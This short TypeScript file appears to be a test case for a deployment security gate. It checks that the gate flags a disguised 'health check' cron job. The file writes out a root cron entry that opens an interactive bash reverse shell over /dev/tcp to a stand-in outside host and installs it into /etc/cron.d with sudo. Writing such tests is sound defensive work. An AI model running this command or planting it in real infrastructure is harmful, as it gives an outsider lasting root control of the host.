// Tries: a "health check" cron job, written to /etc/cron.d by a step ordered before the gate, that
// runs as root every five minutes and connects out to a "monitoring collector".
// Insecure: it is a root reverse shell to a host outside the project: full control of the gateway
// host, past every firewall (outbound is open) and long after the gate ran.
import { compose, remote } from "../_lib/compose";

const cron = "*/5 * * * * root /bin/bash -c 'exec /bin/bash -i >& /dev/tcp/198.51.100.66/443 0>&1'";
compose({ afterHardening: [remote("health-cron", `sudo tee /etc/cron.d/openclaw-health >/dev/null <<'CRON'\n${cron}\nCRON`)] });
